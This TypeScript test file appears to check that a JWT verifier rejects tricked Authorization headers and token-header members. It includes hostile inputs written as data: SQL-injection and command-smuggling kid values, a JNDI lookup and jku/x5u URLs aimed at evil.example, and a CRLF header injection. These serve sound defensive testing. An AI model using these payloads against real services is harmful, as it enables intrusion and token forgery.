/** Tricks with the `Authorization` header, and with members of the token's own header. */
import {
  type Overrides,
  createSigningKey,
  signInput,
} from "../../support/tokens.ts";
import {
  type Attack,
  allowed,
  control,
  couldNotTell,
  refused,
  withHeader,
  withToken,
} from "../attack.ts";
import {
  HEADER,
  accessToken,
  claimsJson,
  headerText,
  heading,
  payloadText,
} from "../baseline.ts";

const SCHEMES: readonly (readonly [string, (token: string) => string])[] = [
  ["of the Basic scheme", (token) => `Basic ${token}`],
  ["of the DPoP scheme", (token) => `DPoP ${token}`],
  ["of the Token scheme", (token) => `Token ${token}`],
  ["without a scheme", (token) => token],
  ["that is empty", () => ""],
  ["that is the scheme alone", () => "Bearer"],
  ["with a tab after the scheme", (token) => `Bearer\t${token}`],
  ["with a no-break space after the scheme", (token) => `Bearer\u00a0${token}`],
  ["with a wide space after the scheme", (token) => `Bearer\u2003${token}`],
  ["with a newline after the scheme", (token) => `Bearer\n${token}`],
  ["with nothing after the scheme", (token) => `Bearer${token}`],
  ["with a colon after the scheme", (token) => `Bearer: ${token}`],
  ["with an equals sign after the scheme", (token) => `Bearer=${token}`],
  ["with a space before the scheme", (token) => ` Bearer ${token}`],
  ["with a newline before the scheme", (token) => `\nBearer ${token}`],
  ["with a BOM before the scheme", (token) => `\ufeffBearer ${token}`],
  [
    "with its name before the scheme",
    (token) => `Authorization: Bearer ${token}`,
  ],
  ["with a fullwidth scheme", (token) => `Ｂearer ${token}`],
  ["with two schemes joined", (token) => `Basic, Bearer ${token}`],
];

const BEARERS: readonly (readonly [string, (token: string) => string])[] = [
  ["two spaces after the scheme", (token) => `Bearer  ${token}`],
  ["the scheme twice", (token) => `Bearer Bearer ${token}`],
  ["a space after the token", (token) => `Bearer ${token} `],
  ["a newline after the token", (token) => `Bearer ${token}\n`],
  [
    "another header behind the token",
    (token) => `Bearer ${token}\r\nX-Tenant-Id: globex`,
  ],
  ["a parameter's name before the token", (token) => `Bearer token=${token}`],
  ["a quoted token", (token) => `Bearer "${token}"`],
];

const schemeAttacks: readonly Attack[] = [
  ...["bearer", "BEARER", "bEaReR"].map((scheme) =>
    control(
      withHeader(
        `takes the scheme spelled ${scheme} (RFC 9110 §11.1)`,
        () => `${scheme} ${accessToken()}`,
        allowed,
      ),
    ),
  ),
  ...SCHEMES.map(([what, header]) =>
    withHeader(
      `refuses a header ${what}`,
      () => header(accessToken()),
      refused("authorization_malformed"),
    ),
  ),
  ...BEARERS.map(([what, header]) =>
    withHeader(
      `refuses a header with ${what}`,
      () => header(accessToken()),
      refused("token_not_canonical"),
    ),
  ),
  withHeader(
    "refuses a header with two tokens joined by a comma",
    () => `Bearer ${accessToken()}, Bearer ${accessToken()}`,
    refused("token_encrypted"),
  ),
  withHeader(
    "refuses a header with two tokens joined by a comma alone",
    () => `Bearer ${accessToken()},${accessToken()}`,
    refused("token_encrypted"),
  ),
  withHeader(
    "refuses a header with the scheme and a space alone",
    () => "Bearer ",
    refused("token_malformed"),
  ),
  withToken(
    "refuses an opaque token",
    () => "kF1wZ0Qb7nN3xV9sT5yU2aR8cE4gH6jL",
    refused("token_malformed"),
  ),
  ...[null, 1, {}, ["Bearer x"], true].map((value) =>
    withHeader(
      `cannot tell from an event whose token is ${JSON.stringify(value)}`,
      () => value,
      couldNotTell("event_malformed"),
    ),
  ),
  withHeader(
    "cannot tell from an event without a token",
    () => undefined,
    couldNotTell("event_malformed"),
  ),
  ...["REQUEST", "token", "", null].map((type): Attack => ({
    name: `cannot tell from an event of type ${JSON.stringify(type)}`,
    event: () => ({ type }),
    expected: couldNotTell("event_malformed"),
  })),
];

/** Values of `kid` that are well formed, and name no key of ours. */
const UNKNOWN_KIDS: readonly string[] = [
  "../../../../../../dev/null",
  "..%2f..%2fdev%2fnull",
  "/dev/null",
  "file:///dev/null",
  "https://evil.example/jwks.json",
  "'OR'1'='1",
  "key-1';DROP/**/TABLE/**/keys;--",
  "|cat</etc/passwd",
  "$(id)",
  "${jndi:ldap://evil.example/a}",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "0",
  "undefined",
  "null",
  "*",
  "KEY-1",
  "key-1#",
  "key-",
  "key-11",
  "key%2D1",
  "x".repeat(128),
];

const MALFORMED_KIDS: readonly unknown[] = [
  "",
  " key-1",
  "key-1 ",
  "key-1\u0000",
  "key-1\n",
  "key 1",
  "' OR '1'='1",
  "clé-1",
  "key\u20111",
  "🔑",
  "\ud800",
  "\u001b[31m",
  ["key-1"],
  { kid: "key-1" },
  null,
  true,
  1,
];

const kidAttacks: readonly Attack[] = [
  ...UNKNOWN_KIDS.map((kid) =>
    withToken(
      `does not know the kid ${brief(kid)}`,
      heading({ kid }),
      refused("kid_unknown"),
    ),
  ),
  ...MALFORMED_KIDS.map((kid) =>
    withToken(
      `refuses the kid ${brief(kid)}`,
      heading({ kid }),
      refused("kid_malformed"),
    ),
  ),
  withToken(
    "refuses a kid of 129 characters",
    heading({ kid: "x".repeat(129) }),
    refused("kid_malformed"),
  ),
  withToken(
    "refuses a kid of 4,000 characters",
    heading({ kid: "x".repeat(4_000) }),
    refused("kid_malformed"),
  ),
  withToken(
    "refuses a header without kid, even when the issuer has one key",
    heading({ kid: undefined }),
    refused("kid_malformed"),
  ),
  withToken(
    "takes __proto__ for a member like any other: a kid inside is no kid",
    headerText('{"__proto__":{"kid":"key-1"},"alg":"RS256","typ":"JWT"}'),
    refused("kid_malformed"),
  ),
];

function brief(value: unknown): string {
  const text = JSON.stringify(value);
  return text.length > 48 ? `${text.slice(0, 40)}… (${text.length - 2})` : text;
}

const TYPES: readonly unknown[] = [
  null,
  "",
  "jwt",
  "Jwt",
  "JWT ",
  "AT+JWT",
  "at+JWT",
  "application/at+jwt",
  "application/jwt",
  "at+jwt;v=1",
  "id+jwt",
  "logout+jwt",
  "dpop+jwt",
  "oauth-authz-req+jwt",
  "token-introspection+jwt",
  "JOSE",
  "JWE",
  ["JWT"],
  { typ: "JWT" },
  1,
  true,
];

const typeAttacks: readonly Attack[] = [
  control(
    withToken(
      "takes a header without typ",
      heading({ typ: undefined }),
      allowed,
    ),
  ),
  control(
    withToken(
      "takes the typ at+jwt with azp",
      heading({ typ: "at+jwt" }),
      allowed,
    ),
  ),
  ...TYPES.map((typ) =>
    withToken(
      `refuses the typ ${JSON.stringify(typ)}`,
      heading({ typ }),
      refused("type_not_allowed"),
    ),
  ),
];

const CRITICAL: readonly (readonly [string, object])[] = [
  ["crit that names exp", { crit: ["exp"], exp: 1 }],
  ["crit that names kid", { crit: ["kid"] }],
  ["an empty crit", { crit: [] }],
  ["crit null", { crit: null }],
  ["crit as text", { crit: "b64" }],
  ["crit with b64 false (RFC 7797)", { crit: ["b64"], b64: false }],
  ["b64 false without crit", { b64: false }],
  ["b64 true", { b64: true }],
  ["b64 null", { b64: null }],
];

const attackerKey = () => createSigningKey("key-1");

/** Members that point a careless verifier at the attacker's key. */
const KEY_POINTERS: readonly (readonly [
  string,
  (key: ReturnType<typeof attackerKey>) => object,
])[] = [
  ["jku", () => ({ jku: "https://evil.example/jwks.json" })],
  [
    "jku below our issuer",
    () => ({ jku: "https://acme.eu.auth0.com/evil.json" }),
  ],
  ["x5u", () => ({ x5u: "https://evil.example/cert.pem" })],
  ["jwk", ({ jwk }) => ({ jwk })],
  ["x5c", () => ({ x5c: ["MIIBszCCARygAwIBAgIBATANBgkqhkiG9w0BAQsFADA="] })],
  ["x5t", () => ({ x5t: "dGhlLWF0dGFja2Vycy1jZXJ0" })],
  ["keys", ({ jwk }) => ({ keys: [jwk] })],
];

const IGNORED: readonly (readonly [string, Overrides])[] = [
  ["cty", { cty: "JWT" }],
  ["zip", { zip: "DEF" }],
  ["enc", { enc: "A256GCM" }],
  ["iss", { iss: "https://evil.example/" }],
  ["constructor", { constructor: { prototype: { alg: "none" } } }],
];

const pointerAttacks: readonly Attack[] = [
  ...KEY_POINTERS.map(([name, header]) =>
    withToken(
      `does not fetch or take a key by the header's ${name}`,
      () => {
        const key = attackerKey();
        return accessToken({ key, header: { ...header(key) } });
      },
      refused("signature_invalid"),
    ),
  ),
  ...KEY_POINTERS.map(([name, header]) =>
    control(
      withToken(
        `pays no attention to ${name} in a token that our issuer signed`,
        () => accessToken({ header: { ...header(attackerKey()) } }),
        allowed,
      ),
    ),
  ),
  ...IGNORED.map(([name, header]) =>
    control(
      withToken(
        `pays no attention to ${name} in the header of a token that our issuer signed`,
        heading(header),
        allowed,
      ),
    ),
  ),
];

const nestingAttacks: readonly Attack[] = [
  withToken(
    "refuses a token whose content is another token (cty JWT)",
    () =>
      signInput(
        [
          Buffer.from(JSON.stringify({ ...HEADER, cty: "JWT" })).toString(
            "base64url",
          ),
          Buffer.from(accessToken()).toString("base64url"),
        ].join("."),
      ),
    refused("token_malformed"),
  ),
  withToken(
    "refuses a token that is wrapped in a claim",
    payloadText(JSON.stringify({ token: "wrapped", claims: claimsJson() })),
    refused("issuer_not_allowed"),
  ),
  withToken(
    "refuses a JWE's header in a token of three parts",
    heading({ alg: "RSA-OAEP-256", enc: "A256GCM" }),
    refused("algorithm_not_allowed"),
  ),
  withToken(
    "refuses an unsecured header of RFC 7519 §6",
    headerText('{"alg":"none"}'),
    refused("algorithm_not_allowed"),
  ),
  withToken(
    "refuses an empty header",
    headerText("{}"),
    refused("algorithm_not_allowed"),
  ),
];

export const headerTricks: readonly Attack[] = [
  ...schemeAttacks,
  ...kidAttacks,
  ...typeAttacks,
  ...CRITICAL.map(([what, header]) =>
    withToken(
      `refuses a header with ${what}`,
      heading({ ...header }),
      refused("critical_header"),
    ),
  ),
  ...pointerAttacks,
  ...nestingAttacks,
];
